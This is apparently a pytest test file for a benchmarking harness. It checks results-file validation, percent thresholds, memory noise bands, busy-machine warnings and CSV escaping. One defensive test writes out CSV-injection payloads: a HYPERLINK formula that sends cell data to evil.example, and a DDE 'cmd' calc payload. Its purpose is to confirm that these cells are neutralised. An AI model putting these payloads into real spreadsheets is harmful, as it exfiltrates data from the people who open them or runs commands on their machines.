"""Perf results files are validated when read: one malformed file per rule, each one line and exit 2.

Also what ``compare`` concludes from valid files: its threshold is in percent, peak memory has a noise
band, and it warns when the two runs are not like for like (CPU, cores, torch build, a busy machine);
perf runs record the machine's load; CSV cells a results file controls cannot become formulas.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from prunebench.harness.benchmark_import import results_from_benchmark_json
from prunebench.harness.cli import RESULTS_EXIT, USAGE_EXIT, main
from prunebench.harness.compare import MEMORY_NOISE, compare_results, parse_threshold
from prunebench.harness.environment import BUSY_LOAD_PER_CORE, MACHINE_INFO_KEY, CpuSample, MachineLoad
from prunebench.harness.errors import UsageError
from prunebench.harness.escaping import FORMULA_START
from prunebench.harness.results import Case, Results, load_results, write_results
from prunebench.harness.tables import render_table

from .conftest import environment_outside_xdist

MIB = 2**20
QUIET = {"cpu_count": 2, "load_average_start": [0.1, 0.1, 0.1], "load_average_end": [1.0, 0.5, 0.2]}
BUSY = {"cpu_count": 2, "load_average_start": [3.7, 2.0, 1.0], "load_average_end": [3.9, 2.5, 1.2]}


def _environment(load: dict[str, Any] | None = None, **overrides: Any) -> dict[str, Any]:
    environment = {
        "host": "vm",
        "torch": "2.13.0+cpu",
        "torch_git": "cf30153c",
        "python": "3.11.7",
        "cpu_model": "AMD EPYC",
        "cpu_count": 2,
        "load": {**(load or QUIET), "others_cpu_share": 0.0, "wall_s": 60.0},
    }
    return {**environment, **overrides}


def _case(case_id: str = "step[1024x1024]", median: float = 0.01, memory: int | None = 4 * MIB, **kw: Any) -> Case:
    stats = {"min": median * 0.9, "median": median, "iqr": median * 0.05, "mean": median, "rounds": 5}
    return Case(case_id, kw.get("backend", "reference"), "cpu", "step", {"size": 1024}, stats, memory)


def _run(*cases: Case, environment: dict[str, Any] | None = None) -> Results:
    backends = [{"name": "reference", "version": "0.1.0"}]
    return Results("perf", environment or _environment(), backends, list(cases or [_case()]))


def _document() -> dict[str, Any]:
    return json.loads(_run(_case("a"), _case("b")).to_json())


def _write(tmp_path: Path, name: str, document: dict[str, Any]) -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(document))  # json.dumps writes float('inf') as Infinity, as a careless writer would
    return path


def _set(path: tuple[Any, ...], value: Any) -> Callable[[dict[str, Any]], None]:
    def mutate(document: dict[str, Any]) -> None:
        target = document
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value

    return mutate


def _delete(path: tuple[Any, ...]) -> Callable[[dict[str, Any]], None]:
    def mutate(document: dict[str, Any]) -> None:
        target = document
        for step in path[:-1]:
            target = target[step]
        del target[path[-1]]

    return mutate


def _duplicate_first_case(document: dict[str, Any]) -> None:
    document["cases"].append(copy.deepcopy(document["cases"][0]))


MALFORMED = {
    # wrong types
    "median_is_text": (_set(("cases", 0, "stats", "median"), "fast"), 'stats.median is "fast", expected a finite'),
    "rounds_is_text": (_set(("cases", 1, "stats", "rounds"), "5"), 'stats.rounds is "5", expected an integer >= 1'),
    "rounds_is_bool": (_set(("cases", 0, "stats", "rounds"), True), "stats.rounds is true, expected an integer"),
    "memory_is_float": (_set(("cases", 0, "peak_memory_bytes"), 1.5), "peak_memory_bytes is 1.5, expected an integer"),
    "case_is_text": (_set(("cases", 0), "step"), 'cases[0] is "step", expected an object'),
    "params_is_text": (_set(("cases", 0, "params"), "size=1"), 'params is "size=1", expected an object'),
    "stats_is_list": (_set(("cases", 0, "stats"), [1, 2]), "stats is [1, 2], expected an object"),
    "environment_is_list": (_set(("environment",), []), "environment is [], expected an object"),
    "cpu_count_is_text": (_set(("environment", "cpu_count"), "two"), 'environment.cpu_count is "two"'),
    "backend_name_missing": (_set(("backends", 0), {"version": "1"}), "backends[0].name is null"),
    "top_level_is_list": (lambda d: d.clear(), "schema is null, expected"),
    # missing fields
    "stats_missing": (_delete(("cases", 0, "stats")), "cases[0] (a on reference/cpu): stats is missing"),
    "median_missing": (
        _delete(("cases", 1, "stats", "median")),
        "cases[1] (b on reference/cpu): stats.median is missing",
    ),
    "memory_missing": (_delete(("cases", 0, "peak_memory_bytes")), "peak_memory_bytes is missing, expected"),
    "cases_missing": (_delete(("cases",)), "cases is missing, expected a list"),
    "environment_missing": (_delete(("environment",)), "environment is missing, expected an object"),
    # non-finite and negative timings and memory
    "median_infinity": (_set(("cases", 0, "stats", "median"), float("inf")), "stats.median is Infinity, expected a"),
    "min_nan": (_set(("cases", 1, "stats", "min"), float("nan")), "stats.min is NaN, expected a finite number >= 0"),
    "mean_negative": (_set(("cases", 0, "stats", "mean"), -0.5), "stats.mean is -0.5, expected a finite number >= 0"),
    "memory_negative": (
        _set(("cases", 0, "peak_memory_bytes"), -1),
        "peak_memory_bytes is -1, expected an integer >= 0",
    ),
    "min_above_median": (_set(("cases", 0, "stats", "min"), 5.0), "stats.min 5.0 is above stats.median"),
    # the worst round and the perf mode (both optional, as in files from before them)
    "max_below_median": (_set(("cases", 0, "stats", "max"), 0.001), "stats.max 0.001 is below stats.median"),
    "max_is_text": (_set(("cases", 0, "stats", "max"), "slow"), 'stats.max is "slow", expected a finite number'),
    "mode_without_threads": (
        _set(("cases", 0, "params"), {"size": 1024, "mode": "threads", "contention": False}),
        "params.threads is missing, expected an integer >= 1",
    ),
    "threads_zero": (
        _set(("cases", 1, "params"), {"mode": "1thread", "threads": 0, "contention": False}),
        "cases[1] (b on reference/cpu): params.threads is 0, expected an integer >= 1",
    ),
    "contention_is_text": (
        _set(("cases", 0, "params"), {"mode": "contended", "threads": 2, "contention": "yes"}),
        'params.contention is "yes", expected true or false',
    ),
    "load_share_negative": (_set(("environment", "load", "others_cpu_share"), -0.2), "load.others_cpu_share is -0.2"),
    "load_average_infinite": (_set(("environment", "load_average"), [float("inf"), 1, 1]), "load_average is [Inf"),
    # duplicate cases
    "duplicate_case": (_duplicate_first_case, "cases[2] (a on reference/cpu) repeats cases[0]"),
    # the other kind, or none of ours
    "conformance_file": (_set(("kind",), "conformance"), 'is a conformance results file (kind "conformance")'),
    "conformance_schema": (
        lambda d: d.update(schema="prunebench-conformance", kind="conformance"),  # harness.conformance_results' own
        'is a conformance results file (kind "conformance")',
    ),
    "unknown_kind": (_set(("kind",), "bench"), 'kind is "bench", expected "perf"'),
    "foreign_schema": (_set(("schema",), "pytest-benchmark"), 'schema is "pytest-benchmark", expected'),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_each_malformed_file_is_one_line_and_exit_2(tmp_path, capsys, name):
    mutate, message = MALFORMED[name]
    good = write_results(_run(_case("a"), _case("b")), tmp_path / "good.json")
    document = _document()
    mutate(document)
    bad = _write(tmp_path, f"{name}.json", document)
    assert main(["compare", str(good), str(bad)]) == RESULTS_EXIT
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1 and captured.out == "", captured
    assert lines[0].startswith(f"prunebench: error: {bad}: ") and message in lines[0], lines[0]


@pytest.mark.parametrize("command", ["compare", "table", "plot", "merge"])
def test_every_reader_validates(tmp_path, capsys, command):
    good = write_results(_run(_case("a")), tmp_path / "good.json")
    document = _document()
    document["cases"][0]["stats"]["median"] = float("inf")
    bad = _write(tmp_path, "bad.json", document)
    arguments = {
        "compare": [str(good), str(bad)],
        "table": [str(bad)],
        "plot": [str(bad), "-o", str(tmp_path / "plots")],
        "merge": [str(good), str(bad), "-o", str(tmp_path / "merged.json")],
    }[command]
    assert main([command, *arguments]) == RESULTS_EXIT
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{bad}: cases[0] (a on reference/cpu): stats.median is Infinity" in err, err
    assert not (tmp_path / "merged.json").exists() and not (tmp_path / "plots").exists()


def test_command_line_gives_no_traceback_for_a_wrong_type(tmp_path):
    """The state before: ``"median": "fast"`` gave a Python traceback and exit 1, like a regression."""
    good = write_results(_run(_case("a"), _case("b")), tmp_path / "good.json")
    document = _document()
    document["cases"][0]["stats"] = {"min": "x", "median": "fast", "iqr": None, "mean": [], "rounds": "5"}
    bad = _write(tmp_path, "bad.json", document)
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    completed = subprocess.run(
        [sys.executable, "-m", "prunebench.harness.cli", "compare", str(good), str(bad)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert completed.returncode == RESULTS_EXIT, completed.stdout + completed.stderr
    assert "Traceback" not in completed.stderr and completed.stderr.count("\n") == 1, completed.stderr
    assert "stats.min is " in completed.stderr, completed.stderr


def test_perf_compared_with_conformance_is_an_error_not_zero_compared(tmp_path, capsys):
    perf = write_results(_run(_case("a")), tmp_path / "perf.json")
    conformance = write_results(Results("conformance", _environment(), [], [_case("a")]), tmp_path / "conformance.json")
    for base, new in ((perf, conformance), (conformance, perf)):
        assert main(["compare", str(base), str(new)]) == RESULTS_EXIT
        err = capsys.readouterr().err
        assert f"{conformance}: is a conformance results file" in err and "0 compared" not in err, err


def test_files_without_a_common_case_are_an_error_not_a_pass(tmp_path, capsys):
    base = write_results(_run(_case("a")), tmp_path / "base.json")
    new = write_results(_run(_case("b")), tmp_path / "new.json")
    assert main(["compare", str(base), str(new)]) == RESULTS_EXIT
    assert "no case (id, backend, device) in common" in capsys.readouterr().err


def test_table_or_plot_of_two_files_holding_the_same_case_is_an_error(tmp_path, capsys):
    first = write_results(_run(_case("a", 0.01)), tmp_path / "first.json")
    second = write_results(_run(_case("a", 0.05)), tmp_path / "second.json")
    for command in (["table"], ["plot", "-o", str(tmp_path / "plots")]):
        assert main([*command[:1], str(first), str(second), *command[1:]]) == RESULTS_EXIT
        err = capsys.readouterr().err
        assert f"{second}: case a on reference/cpu is also in {first}" in err and err.count("\n") == 1, err


def test_valid_files_still_load_and_round_trip(tmp_path):
    original = _run(_case("a"), _case("b", memory=None), _case("a", backend="torch"))
    loaded = load_results(write_results(original, tmp_path / "run.json"))
    assert [vars(case) for case in loaded.cases] == [vars(case) for case in original.cases]
    assert loaded.environment == original.environment


# --- the threshold is in percent -------------------------------------------------------------------


@pytest.mark.parametrize(("text", "fraction"), [("10%", 0.10), ("10", 0.10), (" 30 % ", 0.30), ("0.5", 0.005)])
def test_threshold_is_always_percent(text, fraction):
    assert parse_threshold(text) == pytest.approx(fraction)


@pytest.mark.parametrize("text", ["-5", "-5%", "0", "abc", "", "%", "nan", "inf%"])
def test_bad_threshold_is_a_usage_error(text):
    with pytest.raises(UsageError, match="--threshold"):
        parse_threshold(text)


def test_bad_threshold_exits_4_before_reading_files(tmp_path, capsys):
    assert main(["compare", "missing-a.json", "missing-b.json", "--threshold=-10"]) == USAGE_EXIT
    err = capsys.readouterr().err
    assert "--threshold '-10'" in err and "missing-a.json" not in err, err


def test_threshold_10_is_not_1000_percent():
    """Before: ``--threshold=10`` meant 1000%, so a 5x slowdown passed."""
    comparison = compare_results(_run(_case("a", 0.01)), _run(_case("a", 0.05)), parse_threshold("10"))
    assert comparison.regressions and "beyond 10%" in comparison.render()


# --- peak memory has a noise band ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("base", "new", "regressed"),
    [
        (100 * 1024, 130 * 1024, False),  # +30% of a small case: below the 1 MiB floor of the band
        (100 * MIB, 108 * MIB, False),  # +8%: beyond a 5% threshold, within the 10% band
        (100 * MIB, 115 * MIB, True),  # +15%: beyond both
        (4 * MIB, 12 * MIB, True),  # 3x
        (0, 2 * MIB, True),  # from nothing to 2 MiB
    ],
)
def test_memory_noise_band(base, new, regressed):
    comparison = compare_results(_run(_case("a", memory=base)), _run(_case("a", memory=new)), 0.05)
    verdicts = [change.regressed(0.05) for change in comparison.changes]
    assert verdicts == [["memory"] if regressed else []], (base, new, MEMORY_NOISE)
    assert MEMORY_NOISE.describe() in comparison.render()


# --- warnings: different machines, busy machines ----------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [("cpu_model", "Intel(R) Xeon(R)"), ("cpu_count", 16), ("torch", "2.12.0+cpu"), ("torch_git", "0123abcd")],
)
def test_compare_warns_when_machines_or_builds_differ(tmp_path, capsys, key, value):
    base = write_results(_run(_case("a")), tmp_path / "base.json")
    new = write_results(_run(_case("a"), environment=_environment(**{key: value})), tmp_path / "new.json")
    assert main(["compare", str(base), str(new)]) == 0  # a warning, not a verdict
    captured = capsys.readouterr()
    assert f"prunebench: warning: {key} differs: " in captured.err and f"{value} (new)" in captured.err, captured.err
    assert f"warning: {key} differs" in captured.out, captured.out


def test_compare_of_like_runs_warns_of_nothing(tmp_path, capsys):
    base = write_results(_run(_case("a")), tmp_path / "base.json")
    assert main(["compare", str(base), str(base)]) == 0
    captured = capsys.readouterr()
    assert "warning" not in captured.err + captured.out, captured


def test_compare_warns_when_either_run_was_busy(tmp_path, capsys):
    base = write_results(_run(_case("a")), tmp_path / "base.json")
    busy = write_results(_run(_case("a"), environment=_environment(load=BUSY)), tmp_path / "busy.json")
    assert main(["compare", str(busy), str(base)]) == 0
    captured = capsys.readouterr()
    expected = f"{busy} (host vm) was measured on a busy machine: load average 3.7 on 2 cores at the start"
    assert expected in captured.err and expected in captured.out, captured
    assert main(["compare", str(busy), str(busy)]) == 0
    assert capsys.readouterr().err.count("busy machine") == 1, "a file compared with itself is one warning"


def test_perf_table_warns_when_the_machine_was_busy():
    busy = _run(_case("a"), environment=_environment(load=BUSY))
    busy.source = "perf.json"
    for fmt, opening in (("md", "> **warning:** perf.json (host vm) was measured on a busy machine"), ("html", "<p>")):
        assert render_table([busy], fmt).startswith(opening), render_table([busy], fmt)
    assert "warning" not in render_table([_run(_case("a"))], "md")
    assert "warning" not in render_table([busy], "csv"), "CSV stays data only"


@pytest.mark.parametrize(
    ("load_average", "others_share", "busy"),
    [
        ([BUSY_LOAD_PER_CORE * 2 * 0.9, 0, 0], 0.0, False),
        ([BUSY_LOAD_PER_CORE * 2 * 1.1, 0, 0], 0.0, True),
        ([0.0, 0, 0], 0.30, True),
        ([0.0, 0, 0], 0.20, False),
        (None, None, False),
    ],
)
def test_busy_rule(load_average, others_share, busy):
    load = MachineLoad(2, load_average, None, others_share, 10.0)
    assert bool(load.busy_reasons()) is busy, load.busy_reasons()


def test_others_share_leaves_out_the_run_itself():
    start = CpuSample(machine_busy_s=100.0, own_s=10.0, monotonic_s=0.0, load_average=[0.0, 0.0, 0.0])
    end = CpuSample(machine_busy_s=118.0, own_s=26.0, monotonic_s=10.0, load_average=[1.0, 0.2, 0.1])
    load = MachineLoad.between(start, end, cores=2)
    assert load.others_cpu_share == pytest.approx(0.1)  # 18 s of work in 20 core-seconds, 16 of them our own
    assert load.wall_s == 10.0 and load.busy_reasons() == []


def test_perf_results_carry_the_recorded_load(tmp_path):
    load = {**BUSY, "others_cpu_share": 0.5, "wall_s": 30.0}
    stats = {"min": 0.01, "median": 0.01, "iqr": 0.0, "mean": 0.01, "rounds": 3}
    benchmark = {
        "fullname": "suites/perf/test_p.py::test_step[reference-cpu-1024x1024]",
        "stats": stats,
        "extra_info": {"backend": "reference", "device": "cpu", "operation": "step", "peak_memory_bytes": 0},
    }
    raw = tmp_path / "raw.json"
    raw.write_text(json.dumps({"machine_info": {MACHINE_INFO_KEY: load}, "benchmarks": [benchmark]}))
    results = results_from_benchmark_json(raw)
    assert results.environment["load"] == load
    reloaded = load_results(write_results(results, tmp_path / "perf.json"))
    assert "busy machine" in render_table([reloaded], "md").splitlines()[0]


def _one_perf_case(raw: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The read-floor case at 16x16, one round, serially, in a child pytest with exactly ``env``."""
    command = [sys.executable, "-m", "pytest", "suites/perf", "-p", "no:xdist", "-p", "no:cacheprovider", "-q"]
    command += ["--backend=reference", "--perf-sizes=16", "--perf-rounds=1", "-k", "floor and read"]
    command += [f"--benchmark-json={raw}"]
    root = Path(__file__).parent.parent
    return subprocess.run(command, capture_output=True, text=True, timeout=600, cwd=root, env=env)


def test_perf_suite_records_the_load_around_its_run(tmp_path):
    """The perf suite's own hook, in a real (one-case) run: start and end samples reach machine_info."""
    raw = tmp_path / "raw.json"
    completed = _one_perf_case(raw, environment_outside_xdist())
    assert completed.returncode == 0, completed.stdout[-3000:] + completed.stderr[-3000:]
    load = json.loads(raw.read_text())["machine_info"][MACHINE_INFO_KEY]
    assert load["cpu_count"] == os.cpu_count() and load["wall_s"] > 0, load
    assert len(load["load_average_start"]) == 3 and len(load["load_average_end"]) == 3, load


def test_perf_case_whose_timing_xdist_switched_off_fails(tmp_path):
    """In an xdist worker's environment pytest-benchmark times nothing: the case fails, it does not pass."""
    raw = tmp_path / "raw.json"
    completed = _one_perf_case(raw, {**environment_outside_xdist(), "PYTEST_XDIST_WORKER": "gw0"})
    output = completed.stdout + completed.stderr
    assert completed.returncode == 1, output[-3000:]
    assert "switched its timing off" in output and "-p no:xdist" in output, output[-3000:]
    assert not raw.exists()


# --- CSV cells cannot become formulas --------------------------------------------------------------


def test_csv_of_a_hostile_results_file_is_inert(tmp_path, capsys):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    run = _run(_case(hostile), _case(hostile, backend="@SUM(1+1)"), _case("+cmd|' /C calc'!A0"))
    path = write_results(run, tmp_path / "hostile.json")
    assert main(["table", str(path), "--format=csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
    assert any(hostile in cell for cell in cells), cells
    formulas = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert formulas == [], formulas


# --- perf modes and worst rounds: like with like ---------------------------------------------------------------


def _moded(case_id: str, backend: str, median: float, worst: float, mode: str, operation: str = "step", **params):
    stats = {"min": median * 0.9, "median": median, "max": worst, "iqr": 0.0, "mean": median, "rounds": 5}
    threads = 1 if mode == "1thread" else 2
    moded = {**params, "mode": mode, "threads": threads, "contention": mode == "contended"}
    return Case(f"{case_id}-{mode}]", backend, "cpu", operation, moded, stats, 4 * MIB)


def test_a_moded_run_round_trips_and_tables_show_the_worst_round(tmp_path):
    cases = [
        _moded("step[1024x1024", backend, median, worst, mode, size=1024)
        for mode in ("1thread", "contended")
        for backend, median, worst in (("reference", 0.01, 0.02), ("torch", 0.1, 0.9))
    ]
    reloaded = load_results(write_results(_run(*cases), tmp_path / "perf.json"))
    assert {case.mode for case in reloaded.cases} == {"1thread", "contended"}
    assert all(case.worst is not None for case in reloaded.cases)
    table = render_table([reloaded], "md", baseline="torch")
    header = table.splitlines()[0]
    assert "torch worst" in header and "reference worst" in header, header
    assert "900 ms" in table and "20 ms" in table, table


def test_floors_pair_with_the_same_mode():
    """A step at 1 thread is stated against the read floor at 1 thread, never the contended one's."""
    from prunebench.harness.floors import floor_cases, times_floor

    step = _moded("step[1024x1024", "reference", 0.04, 0.05, "1thread", size=1024)
    floors = [
        _moded("floor[1024x1024-read", "reference", median, median, mode, "floor", size=1024, pass_name="read")
        for mode, median in (("1thread", 0.004), ("contended", 0.04))
    ]
    assert times_floor(step, floor_cases(floors)) == pytest.approx(10.0)


def test_compare_shows_worst_rounds_and_warns_about_other_default_thread_counts():
    base = _run(_moded("step[1024x1024", "reference", 0.01, 0.02, "threads", size=1024))
    new = _run(
        _moded("step[1024x1024", "reference", 0.01, 0.2, "threads", size=1024),
        environment=_environment(torch_threads=16),
    )
    base.environment["torch_threads"] = 2
    comparison = compare_results(base, new, 0.3)
    assert not comparison.regressions, "a stretched tail alone is not a regression"
    rendered = comparison.render()
    assert "worst round new/base" in rendered and "10x" in rendered, rendered
    assert any("torch_threads differs" in warning for warning in comparison.warnings), comparison.warnings
